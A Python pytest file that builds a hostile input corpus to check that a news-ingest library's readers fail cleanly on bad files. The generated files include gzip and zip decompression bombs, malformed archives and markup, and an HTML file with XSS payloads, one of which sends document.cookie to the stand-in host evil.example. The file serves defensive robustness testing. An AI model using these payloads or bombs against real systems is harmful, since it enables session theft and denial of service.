"""Hostile input: a generated corpus of bad files; each yields a clear per-document error or a
normal result, the batch never crashes or hangs, and memory stays bounded."""

from __future__ import annotations

import gzip
import io
import json
import os
import random
import re
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from dateline.errors import DatelineError
from dateline.ingest import time_limit
from dateline.readers import RawArticle, iter_articles

STORY = ("GENEVA, June 3 (Reuters) - The United Nations said on Tuesday that \"aid convoys reached "
         "the city\" after weeks of fighting, the agency's spokesman told reporters. ")
QUOTES = "\"'\u201c\u201d\u2018\u2019\u201e\u00ab\u00bb\u2039\u203a\u300c\u300d\u300e\u300f"


def _gzip_bomb(decompressed_mb: int) -> bytes:
    """Many identical gzip members (a valid multi-member stream): tiny on disk, huge unpacked."""
    member = gzip.compress(b"war " * (2 * 2**20), compresslevel=9)  # text-like, so only size can refuse it
    return member * (decompressed_mb // 8)


def _zip_bomb(decompressed_mb: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("story.txt", "w", force_zip64=True) as member:
            chunk = b"a" * 2**20
            for _ in range(decompressed_mb):
                member.write(chunk)
    return buf.getvalue()


def _warc(records: list[tuple[str, bytes]]) -> bytes:
    out = b""
    for uri, body in records:
        http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body
        out += (f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {uri}\r\n"
                f"WARC-Date: 2021-04-08T10:00:00Z\r\nWARC-Record-ID: <urn:uuid:{abs(hash(uri))}>\r\n"
                f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n\r\n"
                ).encode() + http + b"\r\n\r\n"
    return out


def generate(folder: Path, seed: int = 11) -> dict[str, str]:
    """Write the hostile corpus into ``folder``; returns file name → what it attacks."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    page = f"<html><head><title>Aid</title></head><body><article><p>{STORY}</p></article></body></html>"
    files: dict[str, tuple[bytes, str]] = {
        "empty.txt": (b"", "empty file"),
        "blank.txt": (b" \n\t\r\n " * 100, "whitespace only"),
        "binary.bin": (bytes(rng.randrange(256) for _ in range(65536)), "random bytes"),
        "elf.txt": (b"\x7fELF\x02\x01\x01" + bytes(rng.randrange(256) for _ in range(4096)), "an executable named .txt"),
        "nul.txt": (STORY.encode().replace(b" ", b"\0"), "NUL bytes between words"),
        "some-nul.txt": (STORY.encode() + b"\0" + STORY.encode(), "one NUL byte in text"),
        "invalid-utf8.txt": (b"\xff\xfe\xfd\xc3\x28\xa0\xa1" + STORY.encode() + b"\xe2\x28\xa1", "invalid UTF-8"),
        "mixed-encoding.txt": (STORY.encode("utf-8") + "Caf\u00e9 \u00e0 Gen\u00e8ve. ".encode("cp1252")
                               + "\u201cQuote\u201d".encode("utf-8") + "\u00fc".encode("latin-1"), "utf-8 + cp1252"),
        "utf16.txt": ((STORY + "In UTF-16.").encode("utf-16"), "UTF-16 with BOM"),
        "huge.txt": ((STORY * (50 * 2**20 // len(STORY) + 1)).encode()[: 50 * 2**20], "50 MB of text"),
        "one-line.txt": (("word " * (2**20 // 5 + 1))[: 2**20].encode(), "1 MB on one line"),
        "nested.html": (("<div>" * 100_000 + STORY + "</div>" * 100_000).encode(), "HTML nested 100,000 deep"),
        "unclosed.html": (("<div><span><b>" * 30_000 + STORY).encode(), "90,000 unclosed tags"),
        "scripts.html": ((f"<html><head><title>Aid<script>alert(1)</script></title>"
                          f"<script>document.location='http://evil.example/'+document.cookie</script></head>"
                          f"<body onload=\"alert(2)\"><article><p onclick=\"alert(3)\">{STORY}</p>"
                          f"<a href=\"javascript:alert(4)\">more</a><img src=x onerror=alert(5)>"
                          f"<iframe src=\"javascript:alert(6)\"></iframe><svg><script>alert(7)</script></svg>"
                          f"<p>{STORY}</p></article></body></html>").encode(), "scripts and event handlers"),
        "bomb.gz": (_gzip_bomb(1024), "gzip bomb: 1 GB of text"),
        "bomb.zip": (_zip_bomb(200), "zip bomb: 200 MB in one member"),
        "nested.zip": (b"", "zip in zip in zip in zip"),
        "truncated.gz": (gzip.compress(STORY.encode() * 50)[:-40], "truncated gzip"),
        "malformed.sgm": (("<!DOCTYPE lewis SYSTEM \"lewis.dtd\">\n<REUTERS NEWID=\"1\"><DATE>26-FEB-1987 15:01"
                           "</DATE><TEXT><TITLE>BAHIA COCOA</TITLE><BODY>" + STORY + "\n"
                           "<REUTERS NEWID=\"2\"><TEXT><BODY></BODY></TEXT></REUTERS>\n"
                           "<REUTERS NEWID=\"3\" <<<>>> <TEXT><TITLE><BODY>" + STORY + "</TITLE>\n"
                           "<REUTERS><DATE>99-XXX-0000</DATE><TEXT>&#99999999; &bogus; " + STORY + "</TEXT></REUTERS>\n"
                           "</REUTERS></REUTERS></REUTERS>" + "<REUTERS>" * 5000).encode("latin-1"), "malformed SGML"),
        "corrupt.warc": (_warc([("http://a.example/1", page.encode())])
                         + b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: nonsense\r\n\r\ngarbage\r\n\r\n"
                         + _warc([("http://a.example/2", page.replace("Aid", "Aid two").encode())])
                         + _warc([("http://a.example/3", page.encode())])[:-200], "WARC with corrupt and truncated records"),
        "broken.jsonl": ("\n".join([json.dumps({"text": STORY, "title": "ok"}), "{\"text\": \"unterminated",
                                    "[1, 2, 3]", "null", json.dumps({"title": "no text"}), "\x00\x01\x02",
                                    json.dumps({"text": 12345}), json.dumps({"text": STORY + " second", "published": "not a date"}),
                                    "{" * 10_000]).encode(), "JSONL with broken lines"),
        "quotes.txt": ((STORY + " ".join(f"{q}unbalanced {q} quote {i}" for i, q in enumerate(QUOTES * 30))).encode(),
                       "every quote mark unbalanced"),
        "commas.txt": (b"," * 1_000_000, "a million commas"),
        "spaced-marks.txt": ((", " * 300_000).encode(), "nearly all punctuation, one mark a token"),
        "long-run.txt": ((STORY * 20 + "=" * rng.randint(5_000, 20_000) + STORY).encode(),
                         "a story with one long run of punctuation"),
        "many-runs.txt": (" ".join(STORY + rng.choice("-=*.!?_") * rng.randint(600, 900)
                                   for _ in range(40)).encode(), "prose with many mid-length punctuation runs"),
        "long-word.txt": (b"A" * 500_000, "one 500,000-letter word"),
        "controls.txt": ("".join(chr(c) for c in range(1, 32) if c not in (9, 10, 13)).encode() * 500, "control characters"),
        "rtl-bidi.txt": ((("\u202e\u2066" + STORY + "\u200f\u2069") * 20).encode(), "bidi overrides"),
    }
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z1:
        z1.writestr("story.txt", STORY)
    for _ in range(4):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w") as z:
            z.writestr("inner.zip", inner.getvalue())
        inner = outer
    files["nested.zip"] = (inner.getvalue(), files["nested.zip"][1])
    for name, (data, _) in files.items():
        (folder / name).write_bytes(data)
    return {name: what for name, (_, what) in files.items()}


def test_generator_covers_the_issue(tmp_path):
    made = generate(tmp_path / "h")
    assert (tmp_path / "h" / "huge.txt").stat().st_size == 50 * 2**20
    assert (tmp_path / "h" / "nested.html").read_bytes().count(b"<div>") == 100_000
    assert (tmp_path / "h" / "bomb.gz").stat().st_size < 2 * 2**20
    assert len(made) >= 20


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    generate(folder)
    return folder


def test_readers_yield_articles_or_errors_in_bounded_time(hostile):
    for path in sorted(hostile.iterdir()):
        t0 = time.monotonic()
        with time_limit(60):
            items = list(iter_articles([path]))
        assert time.monotonic() - t0 < 60, path.name
        assert items, path.name
        for item in items:
            assert isinstance(item, (RawArticle, DatelineError)), (path.name, item)
            if isinstance(item, RawArticle):
                assert isinstance(item.text, str) and len(item.text) <= 64 * 2**20, path.name


def test_bombs_are_refused_by_a_size_limit(hostile):
    for name in ("bomb.gz", "bomb.zip"):
        items = list(iter_articles([hostile / name]))
        assert all(isinstance(i, DatelineError) for i in items), name
        assert {i.code for i in items} <= {"E004", "E007"}, name


@pytest.mark.slow
def test_hostile_corpus_ingest_completes(hostile, tmp_path):
    """The whole corpus through the CLI with two workers: every file accounted for, no crash,
    each document within the time limit, every process within a memory bound."""
    db = tmp_path / "h.db"
    limit = 30
    t0 = time.monotonic()
    peak_path = tmp_path / "peak.txt"
    # A child forked from this (large) test process inherits its memory high-water mark, so a small
    # launcher starts the ingest and reports the peak of the ingest and its workers alone.
    launcher = ("import resource, subprocess, sys; rc = subprocess.run(sys.argv[2:]).returncode; "
                "open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)); "
                "sys.exit(rc)")
    proc = subprocess.run([sys.executable, "-c", launcher, str(peak_path),
                           sys.executable, "-m", "dateline.cli", "ingest", str(hostile), "--db", str(db),
                           "--workers", "2", "--time-limit", str(limit)],
                          capture_output=True, text=True, timeout=900)
    elapsed = time.monotonic() - t0
    assert proc.returncode == 1, proc.stderr[-3000:]  # some documents fail, the run does not
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    peak = int(peak_path.read_text()) * 1024
    assert peak < 2.5 * 2**30, f"a process peaked at {peak / 2**20:.0f} MB"
    conn = sqlite3.connect(db)
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    seen = {Path(re.split("[#!]", o or "")[0]).name for (o,) in conn.execute("SELECT origin FROM articles")}
    seen |= {Path(re.split("[#!]", o or "")[0]).name for (o,) in conn.execute("SELECT origin FROM errors")}
    missing = {p.name for p in hostile.iterdir()} - seen
    assert not missing, f"no result and no error for {missing}"
    codes = dict(conn.execute("SELECT origin, code FROM errors"))
    assert all(code.startswith("E0") for code in codes.values())
    stored = conn.execute("SELECT count(*) FROM articles").fetchone()[0]
    assert stored >= 3  # the good stories inside the hostile files still come through
    # a document that could not finish in time was stopped, not waited for
    n_docs = stored + len(codes)
    assert elapsed < 120 + n_docs * 3 * limit
    print(f"\nhostile corpus: {stored} stored, {len(codes)} errors in {elapsed:.0f} s", file=sys.stderr)
    for origin, code in sorted(codes.items()):
        print(f"  {code} {Path(origin or '').name}", file=sys.stderr)


# inputs `make fuzz` found raising out of the readers (first byte: the fuzz target's file-name index)
FUZZ_FINDINGS = {
    "crawl.warc": "BFdBUkMvMS4wDQpXQVJDLVR5cGU6IHJlc3BvbnNlDQpXQVJDLVRhcmdldC1VUkk+JGh0dHA6Ly94LmV4YW1wbGUvDQpDb250ZW50LUxlbmd0aDogMjE5DQoNCkhUVFAvMS4xIDIwMCBPSw0KQ29udGVudC1UeXBlOiB0ZXh0L2h0bWwNCg0KPGh0bWw+PGhlYWQ+PHRpdGxlPkFpZDwvdGl0bGU+PC9oZWFkPjxib2R5PjxhcnRpY2xlPjxwPnQtVVJJOiBodHRwOi8veC5leGFtcGxlLw0KQ29udGVudC1MZW5ndGg6IDIxOQ0KDQpIVFRQLzEuMSAyMDAgT0sNCkNvbnRlbnQtVHlwZTogdGV4dC9odG1sDQoNCjxoPjwvYXJ0aWNsZT48L2JvZHk+PC9odG1sPg0KDQo=",  # noqa: E501 - no WARC-Target-URI: AttributeError in warcio
    "bundle.zip": "BlBLAwQUAAAAAACWdXxdO9QMwlwAAABcAAAABQAAAGEudHh0UEFSSVMsIEZlYiAyNiAoUmV1dGVycykgLSBGcmFuY2UgcyBvbiBNb25kYXkgaXQgd291bGQgc2VuZCBhaWQgdG8gSGFpdGksIG9mZmljaWFscyBzYWlkLgpQSwECFAMUAAAAAACWdXxdO9QMwlwAAABcAAAABQAAAAAAAAAAAAAAgAEAAAAAYS50eHRQSwUGAAAAAAEAAQAzAAAAfwAAAAAA",  # noqa: E501 - negative seek: ValueError in zipfile
    "feed.jsonl": "AnsidGV4dCI6IiBQIn0K9fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19fX19Q==",  # noqa: E501 - invalid UTF-8 line: UnicodeDecodeError has no .msg
    "empty-name.zip": "BlBLAwQUAAAAAACWdXxdO9QMwlwAAABcAAAABQAAAGEudHh0UEFSSVMsIEZlYiAyNiAoUmV1dGVycykgLSBGcmFuY2Ugc2FpZCBvbiBNb25kYXkgaXQgd291bGQgc2VuZCBhaWQgdG8gSGFpdGksIG9mAQAAAGFscyBzYWlkLgpQSwECFAMUAAAAAAAGUEsDBBQAXTvWDMIAeHRQSwUGAAAAAAEAAQAAAAAAfwAAAAAAeHRQSwUGAAAAAAEAAQAzAAAAfwAAAAAA",  # noqa: E501 - empty member name: IndexError in ZipInfo.is_dir
}


@pytest.mark.parametrize("name", sorted(FUZZ_FINDINGS))
def test_fuzz_findings_are_per_document_results(name):
    import base64

    from dateline.readers import read_bytes

    data = base64.b64decode(FUZZ_FINDINGS[name])[1:]
    for item in read_bytes(data, f"/fuzz/{name}", name):
        assert isinstance(item, (RawArticle, DatelineError)), item


def test_punctuation_floods_are_refused_quickly(hostile):
    """spaCy's tokenizer is quadratic in a run of punctuation marks, later stages in the length of a
    word: the reading stage refuses such text (E017) at once instead of a time limit (E008) later."""
    import dateline

    for name in ("commas.txt", "spaced-marks.txt", "long-run.txt", "many-runs.txt", "long-word.txt"):
        t0 = time.monotonic()
        with pytest.raises(DatelineError) as info:
            dateline.analyze((hostile / name).read_text(encoding="utf-8"))
        assert info.value.code == "E017", (name, info.value)
        assert time.monotonic() - t0 < 30, name


def test_punctuation_limits_are_where_the_docstrings_say():
    from dateline.stages.reading import (MAX_PUNCT_SHARE, MAX_RUN_COST, MAX_WORD_COST, MIN_CHARS_FOR_SHARE,
                                         pathological)

    rng = random.Random(3)
    longest = int(MAX_RUN_COST ** 0.5)
    for mark in ",.=*-_!?()\u2014\"'":
        assert pathological(STORY + mark * longest + " " + STORY * 40) is None, mark
        assert pathological(STORY + mark * (longest + 1) + " " + STORY) is not None, mark
    word = int(MAX_WORD_COST ** 0.5)
    assert pathological(STORY + "x" * word + " " + STORY) is None
    assert pathological(STORY + "x" * (word + 1) + " " + STORY) is not None
    url = "https://example.org/" + "/".join(f"section-{i}" for i in range(60))  # ~700 characters
    assert pathological(" ".join([STORY, url] * 300)) is None
    # price tables (the most punctuation-heavy real news) and prose pass, whatever their length
    row = lambda: f"{rng.choice(['OMAN', 'TANDIL', 'Witter'])}{'.' * rng.randint(5, 40)}{rng.random() * 99:.2f}"
    table = "\n".join(" ".join(row() for _ in range(3)) for _ in range(400))
    assert pathological(STORY + "\n" + table) is None
    assert pathological(STORY * 5000) is None
    # a short run of marks is cheap whatever its share; a long text of mostly marks is not
    assert pathological("..." * (MIN_CHARS_FOR_SHARE // 4)) is None
    solid = 1000
    marks = int(solid * MAX_PUNCT_SHARE) + 10
    assert pathological(". " * marks + "a " * (solid - marks)) is not None
    assert pathological(". " * (marks - 20) + "a " * (solid - marks + 20)) is None
